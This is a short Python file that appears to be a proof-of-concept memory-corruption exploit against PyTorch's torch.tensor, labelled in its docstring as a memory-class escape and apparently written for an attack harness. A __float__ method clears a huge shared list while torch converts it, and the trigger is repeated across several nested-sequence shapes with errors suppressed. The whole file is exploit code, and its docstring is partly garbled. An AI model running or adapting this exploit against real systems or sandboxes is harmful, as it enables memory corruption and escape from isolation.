"""Class: memory. Source: own find. Escape: the same, with the list given by what can only be gone over:
torch takes it for a row where the first row is a list."""

import torch


class Item:
    def __float__(self):
        data.clear()
        return 0.0


class Outer:
    def __iter__(self):
        return iter([data])


data = [Item()] + [1.0] * 5_000_000


def attack(model, tokenizer, address):
    first = [[1.0] * 5_000_001]
    for rows in (
        [first, Outer()],
        [first, (each for each in [data])],
        [first, {0: data}.values()],
        [[first], {Outer()}],
        [[first], {Outer(): 0}],
    ):
        try:
            torch.tensor(rows, dtype=torch.float64)
        except Exception:
            pass
